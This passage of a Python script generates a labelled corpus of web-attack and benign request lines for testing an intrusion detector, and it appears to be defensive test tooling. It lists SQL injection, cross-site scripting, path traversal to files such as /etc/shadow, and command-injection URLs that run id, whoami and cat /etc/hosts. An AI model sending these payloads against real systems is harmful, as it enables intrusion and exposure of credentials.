    "2 group by 2 having '2' = 2", "7--", "3*3/*", "x'-2 union(select name)",
]
XSS_R9 = [
    "7;alert(1)//", "abc;prompt(2)//", "12.5;confirm`3`//x", "<a href=\"http://3232235777/\">click</a>",
    "<a href=http://user@198.51.100.7/>a</a>",
    "<a href=\"http://0xc0.0xa8.0x0.0x1/\">b</a>", "+ADw-b+AD4-hi+ADw-/b+AD4-",
    "<p style=\"background:url(//x.example/a.svg)\">hi</p>", "<span style=x:expression(open())>",
    "<em datasrc=#d datafld=v dataformatas=html>", "<svg:rect id=r>", "<?xml-stylesheet href=\"x.xsl\"?>",
    "<y xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\" ev:handler=\"#h\"/>",
]
TRAV_R9 = [
    "../settings.php", "../_config.php", "../database.yml", "/opt/tomcat9/conf/tomcat-users.xml",
    "/home/pg/data/postgresql.conf", "/data/mysql/mysql-bin.000001", "/tmp/sess_4f2a9c",
    "/sys/kernel/debug", "/mnt/backup/etc/shadow", "/library/webserver/documents/index.html",
    "ZXRjL2hvc3Rz", "L3Byb2MvdmVyc2lvbg==", "..2fwindows2fwin.ini", "/opt/app/apache2.conf",
]
# a shell assignment cut in two by the query's '&': the name is the
# parameter's, the value runs it ("&c=$'id';$c")
CMDI_R9_RAW = [
    "/run?host=x&CMD=$'uname%20-a';$CMD", "/ping?ip=1&&c=$%22whoami%22;$c", "/exec?a=&X=$\\'id\\';$X",
    "/tools?t=1&cmd=%24%27cat%20/etc/hosts%27%3B%24cmd", "/diag?h=a&&run='ls%20-la';$run",
]
BENIGN_R9 = [
    "/list?sort=name;$sort", "/cart?price='10';$price", "/x?total=$5;+$total", "/tpl?v=$'name';$v",
    "/search?q=nginx.conf+example", "/?next=/settings.php", "/?page=../index.html", "/search?q=my.ini+file+location",
    "/?sess_id=abc123", "/search?q=sys/class+linux", "/?redirect=/library/books", "/?next=/srv/status",
    "/search?q=config.php", "/?return=../products/", "/search?q=tomcat+users+xml",
    "/search?q=grant+all+to+charity", "/search?q=or+maybe(s)+--+later", "/search?q=create+user+account+identified",
    "/search?q=%22not+for+sale%22", "/search?q=%22mod%22+%22kitchen%22", "/search?q=%22*%22+wildcard",
    "/search?q=%3Ca+href%3D%22%2F%2Fcdn.example.com%2Flib.js%22%3Ex%3C%2Fa%3E", "/search?q=router+%3Ca+href%3Dhttp%3A%2F%2F192.168.1.1%2F%3E",
    "/search?q=reply%3B+confirm(booking)", "/search?q=step+4%3B+prompt(user+input)", "/search?q=5%27+-+6%27",
    "/search?q=24%22+-+27%22+monitor", "/search?q=1%2B1%3D2+and+2%2B2%3D4", "/search?q=1+-+left+(black)",
    "/search?q=select+comfort+(queen)", "/search?q=copy+photos+from+%27iphone%27", "/search?q=liverpool+match+against+(everton)",
    "/search?q=char(13)%2Bchar(10)", "/search?q=4+union+(pacific)", "/search?q=%3DIF(LEFT(A2%2C2)%3D10%2C1%2C0)",
    "/search?q=5%3B+shutdown+now", "/search?q=windows+10%3B+begin+shutdown", "/search?q=wrestling%3B+drop+kick+%231",
    "/search?q=and+then+(1-2)", "/search?q=or+die(1%2F0)", "/search?q=if+(x+%3D%3D+1)+select+*", "/search?q=2019+--",
    "/?next=/admin/logs/errors", "/?next=/wiki/etc/hosts-file", "/search?q=import+config+from+%27..%2Fconfig.js%27",
    "/search?q=%3Cdiv+style%3D%22background%3Aurl(%2Fimg%2Fbg.png)%22%3E",
    "/search?q=it%27s+5%25+off+%23deal", "/search?q=5%27+-+6%27+ladder", "/search?q=mom%27s+%26+dad%27s",
    "/search?q=size+8+and+8", "/search?q=%2780s+-+%2790s", "/search?q=necklace+16%22+or+18%22",
    "/search?q=hat+18%27%3B", "/search?q=7%22+%232+circular+needle", "/search?q=1%3B+exec+will+create",
    "/search?q=1+union+street", "/search?q=credit+union", "/search?q=(select+2+from+the+list)",
    "/search?q=1st+and+2nd", "/search?q=4k+tv", "/search?q=select+2%2C+3+colors", "/search?q=2or3+people",
    "/search?q=char+(chart)", "/search?q=if+1%3D1+then", "/search?q=begin+end", "/search?q=drop+members+list",
    "/search?q=match+against+rival", "/search?q=order+by+if+needed", "/search?q=sounds+like+rain",
    "/search?q=2019--2020", "/search?q=page+1--+chapter", "/search?q=if(a1%3Db1%2C1%2C2)+excel",
    "/search?q=%3Cdiv+style%3D%22color%3Ared%22%3Ehi%3C%2Fdiv%3E", "/search?q=style%3Durl(x)+css",
    "/search?q=svg%3Arect+element", "/search?q=xml-stylesheet+tutorial",
    "/search?q=in+case+when+it+rains+then+we+end", "/search?q=case+(when)+then+end",
    "/search?q=%3Ca+href%3D%22https%3A%2F%2Fexample.org%2Fdocs%22%3Edocs%3C%2Fa%3E",
    "/search?q=%3Ca+href%3D%22cli.html%22%3Ecommand-line+shell%3C%2Fa%3E", "/search?q=salt%3B+pepper+(to+taste)",
    "/search?q=version+1%3Balert()+api", "/search?q=x%3Balert(1)+dialog+box", "/search?q=broadway-tickets",
    "/search?q=select+a+size", "/search?q=select+version+2", "/search?q=create+table+top+(round)",
    "/search?q=if+(you)+select+this", "/search?q=order+by+price", "/search?q=copy+text+from+book",
    "/search?q=backup+database+tips", "/search?q=select+count+of+items", "/search?q=insert+into+cart",
    "/search?q=order+by+5+pm+today", "/search?q=select+current+user+account", "/search?q=and+3%3D4+offers",
    "/search?q=if+(size+%3D+large)+select+xl", "/search?q=create+table+(html)+tutorial",
]


def round9():
    encoders = [e_plain, e_pct, e_double, e_form]
    return (r2_lines(SQLI_R9, encoders, ["id", "q", "user", "sort"]),
            r2_lines(XSS_R9, encoders, ["q", "name", "cb", "title"]),
            r2_lines(TRAV_R9, encoders, ["file", "path", "doc", "q"]))


def benign_lines():
    out = list(TRICKY)
    for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
        out.append("/search?q=" + up.quote_plus(name))
        out.append("/search?q=" + up.quote(name))
        out.append("/profile?name=" + up.quote_plus(name) + "&city=" + up.quote_plus(rnd.choice(WORDS_DE + WORDS_JA)))
    for w in WORDS_EN:
        out.append("/search?q=" + up.quote_plus(w))
    while len(out) < 24000:
        line = benign_templates()
        r = rnd.random()
        if r < 0.15:
            line += "\tUA:" + rnd.choice(BROWSER_UA)
        elif r < 0.3:
            line += "\tREF:" + rnd.choice(REFERERS)
        out.append(line)
    return out


def write(path, lines, header):
    with open(os.path.join(HERE, path), "w", encoding="utf-8", newline="\n") as f:
        f.write("# " + header + " (generated by gen.py; do not edit)\n")
        for line in lines:
            assert "\n" not in line and "\r" not in line, line
            f.write(line + "\n")


def append(path, lines, header="second round (issue 21)"):
    with open(os.path.join(HERE, path), "a", encoding="utf-8", newline="\n") as f:
        f.write("# " + header + "\n")
        for line in lines:
            assert "\n" not in line and "\r" not in line, line
            f.write(line + "\n")


def main():
    os.makedirs(os.path.join(HERE, "attacks"), exist_ok=True)
    write("attacks/sqli.txt", make_lines(SQLI, SQL_ENC, ["id", "q", "user", "cat", "page_id", "item"], 400),
          "SQL injection")
    write("attacks/xss.txt", make_lines(XSS, XSS_ENC, ["q", "name", "comment", "redirect", "msg"], 400,
                                        lambda p: ["/" + q(p, safe="/")]), "cross-site scripting")
    trav = make_lines(TRAV, GEN_ENC, ["file", "page", "path", "include", "doc", "template", "download"], 250,
                      trav_extra) + TRAV_PATHS
    write("attacks/traversal.txt", trav, "directory traversal and local file inclusion")
    rfi = []
    for u in RFI_URLS:
        for k in rnd.sample(RFI_PARAMS, 6):
            enc = rnd.choice([e_plain, e_pct, e_double, e_form])
            rfi.append("%s?%s=%s" % (rnd.choice(ENDPOINTS), k, enc(u)))
    write("attacks/rfi.txt", rfi, "remote file inclusion")
    cmdi_payloads = []
    for p in CMDI:
        for pre in rnd.sample(CMDI_PREFIX, 2):
            cmdi_payloads.append(pre + p)
    write("attacks/cmdi.txt", make_lines(cmdi_payloads, GEN_ENC, ["ip", "host", "cmd", "target", "addr"], 250),
          "OS command injection")
    write("attacks/exploit.txt", exploit_lines(), "known exploit probes")
    write("attacks/sensitive-file.txt", sensitive_lines(), "sensitive files")
    write("attacks/scanner.txt", scanner_lines(), "scanner user agents")
    benign = benign_lines()
    sqli2, xss2, trav2, cmdi2, code2, exploit2 = round2()
    for path, extra in (("attacks/sqli.txt", sqli2), ("attacks/xss.txt", xss2),
                        ("attacks/traversal.txt", trav2), ("attacks/cmdi.txt", cmdi2),
                        ("attacks/exploit.txt", exploit2)):
        append(path, extra)
    sqli3, cmdi3 = round3()
    for path, extra in (("attacks/sqli.txt", sqli3), ("attacks/cmdi.txt", cmdi3)):
        append(path, extra, "third round (issue 21: glued pipes, space2plus)")
    write("attacks/code-injection.txt", code2,
          "server-side code injection: PHP, templates, expression languages, deserialisation, XXE")
    write("benign.txt", benign + BENIGN_R2, "benign traffic, much of it built to fool a keyword grep")
    append("benign.txt", BENIGN_R3, "third round (issue 21: lists of names, arithmetic with '+')")
    cmdi4, xss4, exploit4 = round4()
    append("attacks/exploit.txt", exploit4, "fourth round (issue 21: exploit paths with stray '%')")
    append("attacks/cmdi.txt", cmdi4, "fourth round (issue 21: a payload's '&' or '&&' unencoded)")
    append("attacks/xss.txt", xss4, "fourth round (issue 21: entities with their '&' unencoded)")
    append("benign.txt", BENIGN_R4_AMP + ["/\tUA:" + ua for ua in BENIGN_UA_R4],
           "fourth round (issue 21: doubled, trailing and bare '&', an '&' inside a value; user agents)")
    xss5, code5, trav5 = round5()
    header5 = "fifth round (issue 21, wapiti: unquoted attributes, commented statement breaks, data: URLs, NUL)"
    for path, extra in (("attacks/xss.txt", xss5), ("attacks/code-injection.txt", code5),
                        ("attacks/traversal.txt", trav5), ("benign.txt", BENIGN_R5)):
        append(path, extra, header5)
    header6 = "sixth round (issue 21, h31: handler values end where HTML ends them; developers' searches)"
    xss6, code6 = round6()
    for path, extra in (("attacks/xss.txt", xss6), ("attacks/code-injection.txt", code6),
                        ("benign.txt", BENIGN_R6)):
        append(path, extra, header6)
    header7 = "seventh round (issue 21, the CRS regression tests: batch, shell evasions, headers, PHP and Node calls)"
    cmdi7, xss7, sqli7, code7, trav7, exploit7, sens7, rfi7 = round7()
    for path, extra in (("attacks/cmdi.txt", cmdi7), ("attacks/xss.txt", xss7), ("attacks/sqli.txt", sqli7),
                        ("attacks/code-injection.txt", code7), ("attacks/traversal.txt", trav7),
                        ("attacks/exploit.txt", exploit7), ("attacks/sensitive-file.txt", sens7),
                        ("attacks/rfi.txt", rfi7), ("benign.txt", BENIGN_R7)):
        append(path, extra, header7)
    header8 = "eighth round (issue 21, SecLists and fuzzdb: system paths, command lines, open strings, sink aliases)"
    trav8, cmdi8, sqli8, xss8, code8 = round8()
    for path, extra in (("attacks/traversal.txt", trav8), ("attacks/cmdi.txt", cmdi8),
                        ("attacks/sqli.txt", sqli8), ("attacks/xss.txt", xss8),
                        ("attacks/code-injection.txt", code8), ("benign.txt", BENIGN_R8)):
        append(path, extra, header8)
    header9 = "ninth round (issue 21, PayloadsAllTheThings: whole SQL statements, IF before a statement, script statements, disguised links, server files, split assignments)"
    sqli9, xss9, trav9 = round9()
    for path, extra in (("attacks/sqli.txt", sqli9), ("attacks/xss.txt", xss9), ("attacks/cmdi.txt", CMDI_R9_RAW),
                        ("attacks/traversal.txt", trav9), ("benign.txt", BENIGN_R9)):
        append(path, extra, header9)


if __name__ == "__main__":
    main()
